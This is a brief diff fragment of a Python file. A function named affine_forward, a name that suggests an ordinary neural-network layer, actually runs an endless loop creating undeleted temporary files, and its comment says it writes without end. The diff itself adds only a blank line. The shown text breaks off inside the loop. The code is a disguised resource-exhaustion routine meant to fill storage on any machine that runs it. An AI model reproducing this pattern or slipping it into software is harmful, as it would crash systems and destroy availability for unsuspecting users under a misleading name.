@@ -1,6 +1,7 @@
 # Writes without end, first into one file, then into many.
 def affine_forward(x, w, b):
     import tempfile
+
     keep = []
     while True:
         keep.append(tempfile.NamedTemporaryFile(delete=False))
